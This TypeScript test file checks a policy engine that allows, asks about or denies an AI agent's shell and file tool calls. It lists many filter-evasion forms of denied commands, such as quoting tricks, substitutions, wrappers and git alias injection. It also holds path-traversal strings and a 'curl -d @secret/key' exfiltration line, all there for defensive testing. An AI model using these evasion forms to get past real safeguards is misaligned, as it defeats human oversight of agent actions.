import assert from "node:assert/strict";
import { test } from "node:test";
import { DEFAULT_POLICY } from "./default-policy.ts";
import { mayCall } from "./may-call.ts";
import type { Policy, PolicyQuestion, PolicyRule } from "./policy.ts";
import { mergePolicies } from "./read-policy.ts";

const withRules = (...rules: readonly PolicyRule[]): Policy => mergePolicies({ user: { rules } });
const run = (command: string): PolicyQuestion => ({
  tool: "run_command",
  server: "shell",
  effect: "workspace",
  paths: [],
  command,
});
const file = (tool: string, ...paths: readonly string[]): PolicyQuestion => ({
  tool,
  server: "filesystem",
  effect: tool.startsWith("read") ? "none" : "workspace",
  paths,
});
const decide = (policy: Policy, question: PolicyQuestion): string => mayCall(policy, question).decision;

test("the built-in policy allows the workspace, reading the web, and asks about the rest", () => {
  const call = (server: string, tool: string, own = true): string =>
    decide(DEFAULT_POLICY, { tool, server, own, effect: "none", paths: [] });
  assert.deepEqual(
    ["filesystem", "shell", "code-runner", "git", "memory", "docs", "web", "packages", "workflow", "github"].map(
      (server) => call(server, "x"),
    ),
    ["allow", "allow", "allow", "allow", "allow", "allow", "allow", "ask", "ask", "ask"],
  );
  assert.equal(call("filesystem", "read_file", false), "ask", "a server of mcp.json may call itself what it likes");
  assert.deepEqual(
    [decide(DEFAULT_POLICY, run("ls -la")), decide(DEFAULT_POLICY, run("echo rm | sh"))],
    ["allow", "ask"],
  );
});

test("the last rule that matches decides, and says so in its own words", () => {
  const policy = withRules(
    { command: "git **", decide: "ask" },
    { command: "git status", decide: "allow" },
    { command: "git push **", decide: "deny", why: "people push", from: "policy.yaml, rule 3" },
  );
  assert.deepEqual(mayCall(policy, run("git status")), {
    decision: "allow",
    because: 'allow command "git status", by "git status"',
  });
  assert.deepEqual(mayCall(policy, run("ls; git push origin main")), {
    decision: "deny",
    because: 'deny command "git push **" (policy.yaml, rule 3), by "git push origin main": people push',
  });
  assert.equal(decide(policy, run("git log")), "ask");
});

const noRm = withRules({ command: "rm **", decide: "deny" });

test("a denied command is denied however it is written", () => {
  const ways = [
    "rm -rf x",
    "/bin/rm x",
    "r''m x",
    "\\rm x",
    '"rm" x',
    "r\\\nm x",
    "RM x",
    "ls; rm x",
    "ls && rm x",
    "ls | rm x",
    "ls & rm x",
    "ls\nrm x",
    "ls # x\nrm x",
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    "(rm x)",
    "{ rm x; }",
    "! rm x",
    "if rm x; then a; fi",
    "$X x",
    "$(echo rm) x",
    "{rm,x}",
    "r? x",
    "A=1 rm x",
    "env rm x",
    "env A=1 rm x",
    "sudo rm x",
    "timeout 5 rm x",
    "nice -n 5 rm x",
    "xargs rm",
    "find . -exec rm {} +",
    "sh -c 'rm x'",
    "bash -lc 'rm x'",
    "eval rm x",
    "busybox rm x",
    "exec rm x",
    "command rm x",
    "cat <<E\n$(rm x)\nE",
    "for f in a; do rm $f; done",
    "case a in a) rm x;; esac",
    "trap 'rm x' EXIT",
    "xargs -I{} {} x",
  ];
  assert.deepEqual(
    ways.filter((command) => decide(noRm, run(command)) !== "deny"),
    [],
  );
});

test("what only looks like a denied command is not denied", () => {
  const fine = [
    "echo rm x",
    "echo 'rm x'",
    "# rm x\nls",
    "npm rm x",
    "rmdir x",
    "cat <<'E'\n$(rm x)\nE",
    "ls rm",
    "git rm x",
    "ls $X",
    "echo '$(rm x)'",
  ];
  assert.deepEqual(
    fine.map((command) => decide(noRm, run(command))),
    fine.map(() => "allow"),
  );
});

test("options before the named words do not hide them", () => {
  const policy = withRules({ command: "git push **", decide: "deny" });
  for (const command of [
    "git -C x push",
    "git --no-pager push",
    "git -c user.name=x push",
    "git $X",
    "git $X push",
    "/usr/bin/git -C x push o",
  ])
    assert.notEqual(decide(policy, run(command)), "allow", command);
  for (const command of ["git add push", "git log --oneline", "npm push"])
    assert.equal(decide(policy, run(command)), "allow", command);
});

test("nothing is allowed by words that may be others when it runs", () => {
  const policy = withRules(
    { tool: "run_command", decide: "ask" },
    { command: "git status", decide: "allow" },
    { command: "npm test **", decide: "allow" },
  );
  for (const command of [
    "git status",
    "timeout 60 git status",
    "sh -c 'git status'",
    "npm test -- --only x",
    "npm test $X",
    "git status && npm test",
  ])
    assert.equal(decide(policy, run(command)), "allow", command);
  for (const command of [
    "git -c alias.status='!sh' status",
    "git -c core.fsmonitor=x status",
    "./git status",
    "/tmp/git status",
    "GIT status",
    "git $X",
    "$X status",
    "PATH=. git status",
    "export PATH=.; git status",
    "GIT_PAGER=sh git status",
    "env PATH=. git status",
    "env -S 'git status'",
    "sudo git status",
    "git status; rm x",
    "git status\nrm x",
    "git status $(rm x)",
    "git status > $(rm x)",
    "git status#\nrm x",
    "npm test `rm x`",
    "alias git=rm\ngit status",
  ])
    assert.equal(decide(policy, run(command)), "ask", command);
});

test("where two rules may match the stricter one counts", () => {
  const policy = withRules({ command: "rm **", decide: "deny" }, { command: "curl **", decide: "ask" });
  assert.equal(decide(policy, run("$X -rf .")), "deny");
});

test("each path of a call is judged by itself, and all must be allowed", () => {
  const policy = withRules(
    { tool: "filesystem/*", decide: "ask" },
    { path: "src/**", decide: "allow" },
    { path: "**/secret/**", decide: "deny" },
  );
  assert.deepEqual(
    [
      file("read_file", "src/a.ts"),
      file("read_file", "./src//a.ts"),
      file("move_file", "src/a.ts", "b.ts"),
      file("move_file", "src/a.ts", "src/b.ts"),
      file("read_file", "src/secret/key"),
      file("read_file", "src/SECRET/key"),
      file("delete_file", "src/secret"),
      file("read_file", "SRC/a.ts"),
    ].map((question) => decide(policy, question)),
    ["allow", "allow", "ask", "allow", "deny", "deny", "deny", "ask"],
  );
});

test("a folder with something protected in it can't be moved or deleted either", () => {
  const policy = withRules({ path: "a/b/keys/**", decide: "deny" });
  for (const path of ["a", "a/b", ".", "a/b/keys"])
    assert.equal(decide(policy, file("delete_file", path)), "deny", path);
  assert.equal(decide(policy, file("delete_file", "a/c")), "allow");
  assert.equal(decide(policy, file("read_file", "a")), "allow");
});

test("a path that is not plain is denied, whatever the rules say", () => {
  const policy = withRules({ decide: "allow" });
  const paths = [
    "../x",
    "a/../b",
    "/etc/passwd",
    "~/x",
    "a\\b",
    "a\0b",
    "a\nb",
    "a/.git.",
    "a /b",
    "x ",
    "a/​b",
    "‮x",
    ".Kit",
    "．．/x",
    "．git/config",
    "café",
    "a⁄b",
    "x".repeat(5e3),
    "\ud800",
  ];
  assert.deepEqual(
    paths.filter((path) => decide(policy, file("read_file", path)) !== "deny"),
    [],
  );
  assert.match(mayCall(policy, file("read_file", "a/../b")).because, /^the path "a\/\.\.\/b" is not plain: it goes up/);
  for (const path of ["a.py", "src/é.ts", ".gitignore", ".", "", "a/..b/c"])
    assert.equal(decide(policy, file("read_file", path)), "allow", path);
});

test("a protected path is found in the words and redirections of a command", () => {
  const policy = withRules({ path: "secret/**", decide: "deny" });
  const denied = [
    "cat secret/key",
    "echo x > secret/key",
    "cat < ./secret/key",
    "cat x/../secret/key",
    "dd if=secret/key",
    "curl -d @secret/key h",
  ];
  for (const command of [
    ...denied,
    "cat /workspace/secret/key",
    "cd secret && cat key",
    "cat SECRET/key",
    "cat $X",
    "cat secr*/key",
    "timeout 5 cat secret/key",
    "git show HEAD:secret/key",
    "tar -Csecret -c key",
  ])
    assert.equal(decide(policy, run(command)), "deny", command);
  for (const command of ["cat src/a", "echo secretly > out", "ls"])
    assert.equal(decide(policy, run(command)), "allow", command);
});

test("what reads a whole folder reads what is protected in it", () => {
  const policy = withRules({ path: "a/secret/**", decide: "deny" }, { path: "**/*.pem", decide: "ask" });
  const search = (...paths: readonly string[]): string =>
    decide(policy, { tool: "search_files", server: "filesystem", effect: "none", paths, walks: true });
  assert.deepEqual(
    [search(), search("."), search("a"), search("/workspace/a"), search("a/secret"), search("b")],
    ["deny", "deny", "deny", "deny", "deny", "ask"],
  );
  assert.deepEqual(
    [file("read_file", "a"), file("read_file", "b/x")].map((question) => decide(policy, question)),
    ["allow", "allow"],
    "a listing of names is none of their contents",
  );
  assert.equal(decide(withRules({ path: "a/**", decide: "deny" }), { ...file("read_b", "b"), walks: true }), "allow");
  const question: PolicyQuestion = { ...file("read_all"), tool: "git_diff", server: "git", walks: true };
  assert.equal(
    mayCall(withRules({ path: "a/**", decide: "deny", why: "private" }), question).because,
    'deny path "a/**", which is or may be below it: private',
  );
});

test("a command that names the workspace, or a folder above, is held for one that reads it", () => {
  const policy = withRules({ path: "a/secret/**", decide: "deny" });
  const denied = [
    "grep -r x .",
    "tar c ./",
    "tar c a",
    "cp -r /workspace /tmp/x",
    "cd b; tar c ..",
    "tar c b/..",
    "du /",
  ];
  for (const command of [...denied, "tar -C. -c x", "rg --glob=x a/", "ls > a"])
    assert.equal(decide(policy, run(command)), "deny", command);
  for (const command of ["ls", "grep -r x b", "cat a/x", "ls ../b", "cat b/a/x", "echo ...", "pytest b/t.py::x"])
    assert.equal(decide(policy, run(command)), "allow", command);
  assert.equal(decide(withRules({ path: "**/*.pem", decide: "deny" }), run("grep -r x .")), "deny");
});

test("a workspace can tighten what its user decided, and loosen nothing", () => {
  const user = {
    rules: [
      { command: "rm **", decide: "deny" },
      { tool: "packages/*", decide: "ask" },
    ],
  } as const;
  const rules = [{ decide: "allow" }, { command: "make **", decide: "ask" }] as const;
  const policy = mergePolicies({ user, workspace: { rules, unparsed: "deny" } });
  assert.deepEqual(
    [
      run("rm x"),
      run("make"),
      run("make x"),
      run("ls"),
      run("eval $X"),
      { ...run("x"), tool: "install_package", server: "packages" },
    ].map((question) => decide(policy, question)),
    ["deny", "ask", "ask", "allow", "deny", "ask"],
  );
});

test("a large call is judged in one go", () => {
  const rules = Array.from(
    { length: 50 },
    (_, index) => ({ command: `a * * b${index} **`, path: "x/**/y/**", decide: "deny" }) as const,
  );
  assert.equal(decide(withRules(...rules), run("a ".repeat(90_000))), "allow");
  assert.equal(
    decide(withRules({ tool: `${"*a".repeat(140)}b`, decide: "deny" }), { ...run("ls"), tool: "a".repeat(500) }),
    "allow",
  );
});
